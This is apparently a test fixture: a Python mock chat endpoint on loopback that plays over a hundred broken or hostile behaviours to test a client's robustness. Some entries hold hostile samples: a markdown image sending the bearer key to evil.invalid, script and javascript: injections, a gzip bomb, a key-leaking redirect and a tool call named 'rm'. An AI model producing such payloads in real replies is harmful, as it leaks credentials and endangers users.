"""A chat endpoint on loopback that behaves as badly as it can, one behaviour after another, byte by byte.

`BEHAVIOURS` is the table; playing.py plays one of them and says what is wrong with how it ended.
"""

from __future__ import annotations

import gzip
import json
import re
import socket
import struct
import threading
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

DRIP = 0.05  # seconds between two drops


class Wire:
    """One connection: what was asked, and the means to answer it badly."""

    def __init__(self, connection: socket.socket, ended: threading.Event, elsewhere: str) -> None:
        self.connection, self.ended, self.elsewhere = connection, ended, elsewhere
        self.streams, self.key = False, ""

    def read(self) -> None:
        """The request, whole."""
        data = b""
        while b"\r\n\r\n" not in data:
            part = self.connection.recv(65536)
            if not part:
                return
            data += part
        head, _, body = data.partition(b"\r\n\r\n")
        length = re.search(rb"content-length: (\d+)", head, re.IGNORECASE)
        while length and len(body) < int(length[1]):
            body += self.connection.recv(65536)
        self.streams = bool(json.loads(body).get("stream"))
        found = re.search(rb"authorization: bearer (\S+)", head, re.IGNORECASE)
        self.key = found[1].decode() if found else ""

    def send(self, data: bytes) -> None:
        self.connection.sendall(data)

    def hang(self) -> None:
        """Until the test is over."""
        self.ended.wait(120)

    def drip(self, drop: bytes) -> None:
        """A drop now and then, without end."""
        while not self.ended.wait(DRIP):
            self.send(drop)

    def flood(self, drop: bytes) -> None:
        """Drops as fast as they are taken, without end."""
        while not self.ended.is_set():
            self.send(drop)

    def head(self, status: int = 200, kind: str = "", length: int | None = None, **headers: str) -> None:
        kind = kind or ("text/event-stream" if self.streams else "application/json")
        lines = [f"HTTP/1.1 {status} X", f"Content-Type: {kind}", "Connection: close",
                 *(f"{name.replace('_', '-')}: {value}" for name, value in headers.items())]
        if length is not None:
            lines.append(f"Content-Length: {length}")
        self.send("\r\n".join(lines).encode("latin-1") + b"\r\n\r\n")

    def whole(self, body: bytes, status: int = 200, kind: str = "", **headers: str) -> None:
        self.head(status, kind, len(body), **headers)
        self.send(body)

    def refuse(self, status: int, said: str = "no", **headers: str) -> None:
        self.whole(json.dumps({"error": {"message": said}}).encode(), status, "application/json", **headers)

    def message(self, message: Any, **more: Any) -> None:
        """A reply with this message, as a stream or in one piece."""
        choice = {"index": 0, "finish_reason": "stop", **more}
        if self.streams:
            self.head()
            self.event({"choices": [{**choice, "delta": message}]})
            self.send(b"data: [DONE]\n\n")
        else:
            self.whole(json.dumps({"choices": [{**choice, "message": message}]}).encode())

    def says(self, text: Any, **more: Any) -> None:
        self.message({"role": "assistant", "content": text}, **more)

    def event(self, value: Any) -> None:
        self.send(b"data: " + json.dumps(value).encode() + b"\n\n")

    def piece(self, text: str) -> None:
        self.event({"choices": [{"delta": {"content": text}}]})


Play = Callable[[Wire], None]


@dataclass(frozen=True)
class Behaviour:
    """fault: "yes" where the reader must be told, "whole" or "stream" where only then, "no" where it may end well.
    reads: whether the request is read first."""

    name: str
    play: Play
    fault: str = "yes"
    reads: bool = True

    def is_fault(self, streams: bool) -> bool:
        return self.fault == "yes" or self.fault == ("stream" if streams else "whole")


def _reset(wire: Wire) -> None:
    wire.connection.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))


def _then(*steps: Callable[[Wire], Any]) -> Play:
    def play(wire: Wire) -> None:
        for step in steps:
            step(wire)

    return play


def _send(data: bytes) -> Play:
    return lambda wire: wire.send(data)


def _body(data: bytes, kind: str = "", **headers: str) -> Play:
    """This body, whatever was asked."""
    return lambda wire: wire.whole(data, 200, kind, **headers)


def _as_asked(data: bytes) -> Play:
    """These bytes as the one object of a reply, or as an event."""
    return lambda wire: wire.whole(b"data: " + data + b"\n\ndata: [DONE]\n\n" if wire.streams else data)


def _of(content: str) -> bytes:
    """A reply whose content is this JSON, as bytes."""
    return ('{"choices": [{"finish_reason": "stop", "message": {"content": ' + content + "}}]}").encode()


_hang: Play = lambda wire: wire.hang()  # noqa: E731
_STATUS = b"HTTP/1.1 200 OK\r\n"
_HEADER = b"Content-Type: text/event-stream\r\n"
_TRUE = "Pruning is the removal of weights that matter little"
_EVENT = b'data: {"choices": [{"delta": {"content": "' + _TRUE.encode() + b' [1]. "}}]}\n\n'
_GOOD = json.dumps({"choices": [{"message": {"content": f"{_TRUE} [1]."}, "finish_reason": "stop"}]}).encode()
_EMPTY = b'data: {"choices": [{"delta": {"content": ""}}]}\n\n'


def _echoes_key(wire: Wire) -> None:
    wire.says(f"Your key {wire.key} is known [1]. {_TRUE} [1]. Bearer {wire.key}")


def _finishes_and_hangs(wire: Wire) -> None:
    wire.head()
    wire.piece(f"{_TRUE} [1].")
    wire.event({"choices": [{"delta": {}, "finish_reason": "stop"}]})
    wire.hang()


def _error_after_text(wire: Wire) -> None:
    wire.head(kind="text/event-stream")
    wire.piece(f"{_TRUE} [1].")
    wire.event({"error": {"message": f"overloaded {wire.key}"}})


def _many_pieces(wire: Wire) -> None:
    wire.head(kind="text/event-stream")
    for sign in f"{_TRUE} [1]. " * 400:
        wire.piece(sign)
    wire.send(b"data: [DONE]\n\n")


B = Behaviour
BEHAVIOURS: tuple[Behaviour, ...] = (
    # --- the line
    B("nobody listens", _hang, reads=False),  # `serving` gives an address without a listener
    B("hangs before it reads", _hang, reads=False),
    B("hangs after it has read", _hang),
    B("hangs in the status line", _then(_send(b"HTTP/1.1 20"), _hang)),
    B("hangs after the status line", _then(_send(_STATUS), _hang)),
    B("hangs in the headers", _then(_send(_STATUS + b"Content-Ty"), _hang)),
    B("hangs after the headers", _then(_send(_STATUS + _HEADER + b"\r\n"), _hang)),
    B("hangs in an event", _then(_send(_STATUS + _HEADER + b"\r\n" + _EVENT + b'data: {"choi'), _hang)),
    B("hangs after an event", _then(_send(_STATUS + _HEADER + b"\r\n" + _EVENT), _hang)),
    B("hangs after it has finished", _finishes_and_hangs, "whole"),
    B("drips the status line", lambda wire: wire.drip(b"H")),
    B("drips headers", _then(_send(_STATUS), lambda wire: wire.drip(b"a: b\r\n"))),
    B("drips events", _then(_send(_STATUS + _HEADER + b"\r\n"), lambda wire: wire.drip(_EVENT))),
    B("drips comments", _then(_send(_STATUS + _HEADER + b"\r\n"), lambda wire: wire.drip(b": ping\n\n"))),
    B("drips spaces", _then(_send(_STATUS + _HEADER + b"\r\n"), lambda wire: wire.drip(b" "))),
    B("drips the body of a refusal", _then(_send(b"HTTP/1.1 400 X\r\n\r\n"), lambda wire: wire.drip(b"x"))),
    B("closes at once", lambda wire: None, reads=False),
    B("closes after it has read", lambda wire: None),
    B("closes after the status line", _send(_STATUS)),
    B("closes in the headers", _send(_STATUS + b"Content-Ty")),
    B("closes in an event", _send(_STATUS + _HEADER + b"\r\n" + _EVENT + b'data: {"choi')),
    B("closes after an event", _send(_STATUS + _HEADER + b"\r\n" + _EVENT)),
    B("closes in a character", _send(_STATUS + _HEADER + b"\r\n" + _EVENT[:40] + b"\xe5\x89")),
    B("resets", _reset),
    B("resets after an event", _then(_send(_STATUS + _HEADER + b"\r\n" + _EVENT), _reset)),
    B("sends less than it says", _then(lambda wire: wire.head(length=5000), _send(_GOOD))),
    B("sends a chunk of no size", _send(_STATUS + b"Transfer-Encoding: chunked\r\n\r\nxyz\r\nabc\r\n")),
    B("sends a chunk that ends early", _send(_STATUS + b"Transfer-Encoding: chunked\r\n\r\nffff\r\n{")),
    # --- no HTTP
    B("is another protocol", _send(b"SSH-2.0-OpenSSH_9.2\r\n")),
    B("is TLS", _send(b"\x15\x03\x01\x00\x02\x02\x50")),
    B("is noise", _send(bytes(range(256)) * 40)),
    B("has an endless status line", lambda wire: wire.flood(b"HTTP/1.1 " * 1000)),
    B("has endless headers", _then(_send(_STATUS), lambda wire: wire.flood(b"a: b\r\n" * 1000))),
    B("has an endless header", _then(_send(_STATUS + b"a: "), lambda wire: wire.flood(b"b" * 10_000))),
    B("says continue for ever", lambda wire: wire.flood(b"HTTP/1.1 100 Continue\r\n\r\n" * 100)),
    # --- refusals
    B("sends elsewhere with 301", lambda wire: wire.refuse(301, Location=wire.elsewhere)),
    B("sends elsewhere with 307", lambda wire: wire.refuse(307, Location=wire.elsewhere)),
    B("sends elsewhere with 308 and the key",
      lambda wire: wire.refuse(308, Location=wire.elsewhere + "?k=" + wire.key)),
    B("401 that repeats the key", lambda wire: wire.refuse(401, f"bad key {wire.key}")),
    B("403", lambda wire: wire.refuse(403)),
    B("404", lambda wire: wire.whole(b"404 page not found", 404, "text/plain")),
    B("418 with a page", lambda wire: wire.whole(b"<" * 60_000, 418, "text/html")),
    B("422 whatever is left out", lambda wire: wire.refuse(422, "no such field")),
    B("429 for an hour", lambda wire: wire.refuse(429, Retry_After="3600")),
    B("429 for no time", lambda wire: wire.refuse(429, Retry_After="-nan")),
    B("429 until 9999", lambda wire: wire.refuse(429, Retry_After="Fri, 31 Dec 9999 23:59:59 -9959")),
    B("429 again and again", lambda wire: wire.refuse(429, Retry_After="0")),
    B("500 again and again", lambda wire: wire.refuse(500, f"CUDA {wire.key}", Retry_After="0")),
    B("503 for ever", lambda wire: wire.refuse(503, Retry_After="inf")),
    B("500 without an end", _then(_send(b"HTTP/1.1 500 X\r\n\r\n"), lambda wire: wire.flood(b"x" * 10_000))),
    B("204", _send(b"HTTP/1.1 204 X\r\n\r\n")),
    B("context too long again and again", lambda wire: wire.refuse(400, "maximum context length is 9 tokens")),
    B("an error nested deeply", lambda wire: wire.whole(b'{"error": ' + b'{"a":' * 3000, 400)),
    # --- bodies
    B("an error inside a 200", lambda wire: wire.whole(b'{"error": {"message": "overloaded"}}')),
    B("gzip that is none", _body(b"\x1f\x8b\x08" + b"\xff" * 400, Content_Encoding="gzip")),
    B("gzip that swells", _body(gzip.compress(b"\0" * 50_000_000), Content_Encoding="gzip")),
    B("a web page", _body(b"<!doctype html><p>Welcome", "text/html")),
    B("lines that are no events", _body(b"hello\nworld\n", "text/event-stream")),
    B("JSON that ends", _as_asked(b'{"choices": [{"delta"')),
    B("JSON with words behind it", _as_asked(_GOOD + b" and more")),
    B("no UTF-8", _as_asked(_of('"\\"').replace(b'\\"', b"\xff\xfe\xc0"))),
    B("UTF-16", _as_asked(_GOOD.decode().encode("utf-16"))),
    B("nested lists", _as_asked(b"[" * 200_000)),
    B("nested objects inside a choice", _as_asked(b'{"choices": [' + b'{"a":' * 900 + b"1" + b"}" * 900 + b"]}")),
    B("9 MB", _as_asked(b'{"x": "' + b"a" * 9_000_000 + b'"}')),
    B("a body without an end", _then(_send(_STATUS + b"\r\n{"), lambda wire: wire.flood(b" " * 10_000))),
    B("a line without an end", _then(_send(_STATUS + _HEADER + b"\r\ndata: "), lambda wire: wire.flood(b"x" * 10_000))),
    B("a million numbers", _as_asked(b'{"choices": [' + b"1," * 1_000_000 + b"1]}")),
    B("numbers of 5,000 digits", _as_asked(_GOOD[:-1] + b', "usage": {"prompt_tokens": ' + b"9" * 5000 + b"}}")),
    B("keys that stand twice", _as_asked(b'{"choices": null, ' + _GOOD[1:]), "no"),
    B("choices that are none", _as_asked(b'{"choices": {"a": 1}}')),
    B("no choices", _as_asked(b'{"choices": []}')),
    B("choices of other kinds", _as_asked(b'{"choices": [7, null, "x"]}')),
    B("null", _as_asked(b"null")),
    B("nothing", _body(b"")),
    B("only DONE", _body(b"data: [DONE]\n\n", "text/event-stream")),
    # --- messages
    B("content null", lambda wire: wire.says(None)),
    B("content empty", lambda wire: wire.says("")),
    B("content of spaces", lambda wire: wire.says(" \n\t" * 1000)),
    B("content a number", lambda wire: wire.says(7)),
    B("content of odd parts", lambda wire: wire.says([1, None, {"text": {"a": [1]}}, {"text": 5}]), "no"),
    B("a message that is a list", lambda wire: wire.message([1, 2])),
    B("a tool call", lambda wire: wire.message({"tool_calls": [{"function": {"name": "rm", "arguments": "{}"}}]})),
    B("thoughts only", lambda wire: wire.message({"content": None, "reasoning_content": "hm"})),
    B("thoughts without an end", lambda wire: wire.says("<think>" + "hm " * 50_000)),
    B("a finish of another kind", lambda wire: wire.says(f"{_TRUE} [1].", finish_reason={"a": [1]}), "no"),
    B("cut by its length", lambda wire: wire.says(f"{_TRUE} [1]. And", finish_reason="length")),
    B("lone surrogates and NUL", _as_asked(_of('"' + _TRUE + ' [1]. \\ud800\\u0000 \\udfff [1]."')), "no"),
    B("marks of direction and controls",
      lambda wire: wire.says(f"\u202e\u200b\x07{_TRUE} [1]. \u2066[1]\x1b[31m"), "no"),
    B("a sentence 4,000 times", lambda wire: wire.says(f"{_TRUE} [1]. " * 4000)),
    B("2,000 different sentences", lambda wire: wire.says(" ".join(
        f"Method {i} removes {i} weights that matter little [{i % 9}]." for i in range(2000)))),
    B("spaces without an end", lambda wire: wire.says(_TRUE + " [1]." + " " * 200_000 + "x"), "no"),
    B("one word without an end", lambda wire: wire.says("x" * 39_000 + " [1]."), "no"),
    B("marks without an end", lambda wire: wire.says("[1][2]" * 6000 + _TRUE), "no"),
    B("formulas that do not close", lambda wire: wire.says(_TRUE + " [1]. " + "\\( a $$ \\[ " * 3000), "no"),
    B("pieces of one character", _many_pieces, "no"),
    B("100,000 empty events", _then(lambda wire: wire.head(kind="text/event-stream"),
                                    lambda wire: wire.send(_EMPTY * 100_000), _send(_EVENT))),
    B("empty events without an end", _then(lambda wire: wire.head(kind="text/event-stream"),
                                           lambda wire: wire.flood(_EMPTY * 100))),
    B("text without an end", _then(lambda wire: wire.head(kind="text/event-stream"),
                                   lambda wire: wire.flood(_EVENT * 10))),
    B("an error after text", _error_after_text),
    B("ghosts of citations",
      lambda wire: wire.says(f"{_TRUE} [99]. {_TRUE} [0][-1]. {_TRUE} 【1-500】. [²] [1e3]"), "no"),
    B("the key in the text", _echoes_key, "no"),
    B("pictures, links and scripts", lambda wire: wire.says(
        f"{_TRUE} [1]. ![x](http://evil.invalid/{wire.key}) <script>alert(1)</script> [a](javascript:alert(1)) [1]."),
      "no"),
    B("another kind of content", lambda wire: wire.whole(_GOOD, 200, "image/png"), "no"),
    B("two replies", lambda wire: wire.whole(_GOOD + _GOOD), "yes"),
    B("a thousand choices", lambda wire: wire.whole(json.dumps({"choices": [
        {"message": {"content": f"{_TRUE} [1]."}, "finish_reason": "stop"}] * 1000}).encode()), "no"),
)
NAMES = tuple(behaviour.name for behaviour in BEHAVIOURS)
